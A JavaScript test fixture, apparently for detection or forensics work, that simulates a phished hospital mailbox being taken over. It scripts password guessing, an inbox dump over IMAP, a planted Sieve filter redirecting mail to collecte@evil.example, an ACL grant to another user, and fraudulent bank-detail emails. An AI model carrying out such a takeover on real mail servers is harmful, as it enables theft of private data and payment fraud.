// A mail system under attack: a phished password, sign-ins from abroad, a planted redirect, a shared folder, fraudulent mail sent.
import { setTimeout as sleep } from 'node:timers/promises';

import { MailServers } from './mail_servers.mjs';

export const victim = 'marie@chu.test';
export const password = 'Printemps2026';
export const attacker = '198.51.100.23';
export const outside = 55; // fraudulent mails to other houses, which stay in the queue
export const people = { [victim]: password, 'paul@chu.test': 'Automne-2026', 'direction@chu.test': 'Direction-2026', 'quarantine@chu.test': 'Quarantaine-2026' };
export const sieve = `require ["copy"];\r\n# filtre\r\nredirect :copy "collecte@evil.example";\r\n`;

/** Two weeks of ordinary days from the hospital, as this server writes them. */
function history() {
  const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
  const two = (value) => String(value).padStart(2, '0');
  let text = '';
  let n = 0;
  for (let day = 15; day >= 1; day -= 1)
    for (const name of Object.keys(people))
      for (const hour of [8, 11, 15]) {
        const at = new Date(Date.now() - day * 86_400_000);
        at.setHours(hour, 10 + (n % 40), n % 60);
        const stamp = `${months[at.getMonth()]} ${String(at.getDate()).padStart(2, ' ')} ${two(at.getHours())}:${two(at.getMinutes())}:${two(at.getSeconds())}`;
        text += `${stamp} mx1 dovecot: imap-login: Info: Login: user=<${name}>, method=PLAIN, rip=192.0.2.${10 + (name.length % 5)}, lip=127.0.0.1, mpid=${1000 + n}, TLS, session=<h${n}AAA>\n`;
        if (hour === 11) text += `${stamp} mx1 dovecot: lmtp(${name})<2${1000 + n}><l${n}AAA>: Info: msgid=<h${n}@partner.example>: saved mail to INBOX\n`;
        n += 1;
      }
  return text;
}

/** Plays it on real servers; `stolen` is the session that the attacker keeps open. */
export async function attackedMail(options = {}) {
  const mail = await MailServers.start(people, options);
  mail.before('dovecot.log', history());
  const must = (truth, what) => {
    if (!truth) throw new Error(`the attack: ${what}`);
  };
  const local = await mail.signIn(victim, password, '192.0.2.12');
  must(local, 'the owner signs in');
  local.close();
  await mail.receive('faux-support@evil.example', victim, 'Votre messagerie expire', 'hook@evil.example');
  // The log has whole seconds and tells a refusal when its connection ends: those of the second of the success stand in no order to it.
  for (let year = 2012; year < 2026; year += 1) must((await mail.signIn(victim, `Printemps${year}`, attacker)) === null, 'a wrong guess');
  const stolen = await mail.signIn(victim, password, attacker);
  must(stolen, 'the attacker signs in');
  await stolen.imap('SELECT INBOX');
  await stolen.imap('FETCH 1:* (BODY.PEEK[])');
  await stolen.imap('SETACL INBOX paul@chu.test lrwstipekxa');
  const filters = await mail.sieve(victim, password, attacker);
  for (const command of [`PUTSCRIPT "a" {${Buffer.byteLength(sieve)}+}\r\n${sieve}`, 'SETACTIVE "a"']) {
    filters.send(`${command}\r\n`);
    must((await filters.read(/^(OK|NO).*\r\n/m)).startsWith('OK'), command);
  }
  filters.close();
  must((await mail.submit(victim, password, attacker, victim, ['paul@chu.test', 'direction@chu.test'], 'RIB', 'Nouveau compte')) === 250, 'fraud inside');
  for (let i = 0; i < outside; i += 1) must((await mail.submit(victim, password, attacker, victim, [`client${i}@partner.example`], 'RIB')) === 250, 'fraud outside');
  await mail.receive('labo@partner.example', victim, 'Résultat', 'result@partner.example');
  for (let i = 0; i < 600 && !mail.log('dovecot.log').includes('collecte@evil.example'); i += 1) await sleep(100);
  must(mail.log('dovecot.log').includes('collecte@evil.example'), 'the redirect works');
  return { mail, stolen };
}
